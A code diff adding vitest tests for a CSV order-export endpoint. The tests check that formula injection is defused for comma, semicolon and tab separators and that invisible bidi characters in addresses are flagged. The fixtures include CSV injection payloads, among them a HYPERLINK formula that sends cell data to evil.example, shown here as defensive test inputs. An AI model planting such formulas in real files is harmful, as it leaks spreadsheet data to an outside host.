@@ -8,7 +8,7 @@ import { eq, inArray, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { AdminOrder } from '../../../shared/contracts/order';
 import { orders } from '../../db/schema';
-import { parseCsv } from '../../test/csv';
+import { looksLikeFormula, parseCsv, spreadsheetCells } from '../../test/csv';
 import { testAddress } from '../../test/factories/addresses';
 import { createOrder, type OrderInput } from '../../test/factories/admin-orders';
 import { createProduct, type ProductFixture } from '../../test/factories/products';
@@ -380,6 +380,8 @@ describe('GET /api/admin/orders/export (CSV)', () => {
       Country: 'GB',
       Phone: "'+44 1904 555123",
       'Address missing': 'no',
+      // (the line break of a stored line 2 breaks the rule the checkout holds addresses to)
+      'Address problems': 'Address line 2 must not contain < or > or control characters.',
       'Book id': colours.id,
       Book: 'Colour Calm',
       Quantity: '1',
@@ -411,6 +413,31 @@ describe('GET /api/admin/orders/export (CSV)', () => {
     expect(row![column('County')]).toBe("'+cmd");
     // Every text cell of the file: none starts as a formula.
     expect(parseCsv(raw.slice(1)).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  });
+
+  it('leaves no formula for a spreadsheet that splits on semicolons or tabs, as most of Europe opens a .csv (issue 32, finding 7)', async () => {
+    const d = domain();
+    const address = testAddress({ name: 'Ann;=HYPERLINK("http://evil.example/?"&A1,"Refund")', line1: '14 Orchard Row;+cmd', line2: 'Flat 2, @SUM(1+1)', county: 'York;-2+3' });
+    await order(`europe@${d}`, { deliveryAddress: address });
+    const raw = (await exportCsv({ q: d })).rawPayload.toString('utf8').slice(1);
+    for (const separator of [',', ';', '\t'] as const) {
+      for (const quotes of [true, false]) expect(spreadsheetCells(raw, separator, { quotes }).filter(looksLikeFormula)).toEqual([]);
+    }
+    // A reader that splits on commas still gets each field whole, the apostrophes being the only change.
+    const [, row] = parseCsv(raw);
+    expect(row![column('Name')]).toBe(`Ann;'=HYPERLINK("http://evil.example/?"&A1,"Refund")`);
+    expect(row![column('Address line 1')]).toBe("14 Orchard Row;'+cmd");
+    expect(row![column('Address line 2')]).toBe("Flat 2, '@SUM(1+1)");
+    expect(row![column('County')]).toBe("York;'-2+3");
+  });
+
+  it('names what breaks the address rule in a kept address (decision 133), so the file flags it too', async () => {
+    const d = domain();
+    await order(`held@${d}`, { deliveryAddress: testAddress({ name: 'Ann \u202eredaeR', phone: `+44 ${'1'.repeat(3000)}` }) });
+    const [, row] = parseCsv((await exportCsv({ q: d })).rawPayload.toString('utf8').slice(1));
+    expect(row![column('Address problems')]).toBe(
+      'Full name contains an invisible character (U+202E) that can reorder or hide text: please type it again without it. Phone number must be at most 24 characters.',
+    );
   });
 
   it("exports the overview's filters (search, status, missing address) and an empty file when nothing matches", async () => {
